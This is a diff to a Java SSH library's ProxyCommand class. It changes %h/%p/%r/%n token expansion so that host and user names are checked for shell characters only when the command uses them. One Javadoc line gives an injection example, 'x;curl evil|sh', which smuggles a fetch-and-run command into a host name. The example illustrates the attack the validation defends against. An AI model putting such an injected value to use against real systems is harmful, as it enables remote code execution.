@@ -6,9 +6,8 @@ import java.io.InputStream;
 import java.io.OutputStream;
 import java.nio.ByteBuffer;
 import java.nio.channels.SocketChannel;
-import java.util.HashMap;
 import java.util.List;
-import java.util.Map;
+import java.util.function.Function;
 import java.util.function.Supplier;
 import org.amiko.Transport;
 import org.amiko.core.AlgorithmCatalog;
@@ -36,8 +35,7 @@ public final class ProxyCommand {
      * next). Host key verification sees the peer as {@code host:port}.
      */
     public static Transport connect(String command, String host, int port) throws IOException {
-        return connect(List.of("/bin/sh", "-c", "exec " + expand(command, host, port, null, host)), host, port,
-                TransportSettings.defaults(), Amiko::defaultCatalog);
+        return connect(command, host, port, null, host);
     }
 
     /**
@@ -45,6 +43,7 @@ public final class ProxyCommand {
      * {@code ProxyCommand}: {@code %r}, the user to log in as, and {@code %n}, the name the host
      * was asked for before its {@code HostName} replaced it.
      *
+     * @param user the user for {@code %r}, or null for none (a command that uses it is then refused)
      * @since 1.2
      */
     public static Transport connect(String command, String host, int port, String user, String originalName)
@@ -67,22 +66,23 @@ public final class ProxyCommand {
      * ssh's expansion of the tokens a {@code ProxyCommand} may hold ({@code %h %p %r %n %%}). The
      * names go into a shell command, so, as ssh since 9.6 (readconf.c's {@code ssh_valid_hostname}
      * and its user name check), one that starts with {@code -} or holds a shell character, a space
-     * or a control character is refused: {@code x;curl evil|sh} would otherwise be run.
+     * or a control character is refused where the command uses it: {@code x;curl evil|sh} would
+     * otherwise be run. A name the command does not use is not looked at.
      *
      * @param user the user for {@code %r}, or null when not known (then {@code %r} is refused)
      * @param originalName the name asked for, for {@code %n}
      */
     static String expand(String command, String host, int port, String user, String originalName) {
-        Map<Character, String> tokens = new HashMap<>();
-        tokens.put('h', shellSafe(host, "host name"));
-        tokens.put('p', Integer.toString(port));
-        tokens.put('n', shellSafe(originalName, "host name asked for"));
-        if (user != null) {
-            tokens.put('r', shellSafe(user, "user name"));
-        }
+        Function<Character, String> tokens = token -> switch (token) {
+            case 'h' -> shellSafe(host, "host name");
+            case 'p' -> Integer.toString(port);
+            case 'n' -> shellSafe(originalName, "host name asked for");
+            case 'r' -> user == null ? null : shellSafe(user, "user name");
+            default -> null;
+        };
         try {
             return PercentTokens.expand(command, tokens, true);
-        } catch (IllegalArgumentException e) {
+        } catch (PercentTokens.UnknownToken e) {
             throw new IllegalArgumentException("ProxyCommand " + e.getMessage() + "; %h, %p, %n"
                     + (user != null ? ", %r" : "") + " and %% are", e);
         }
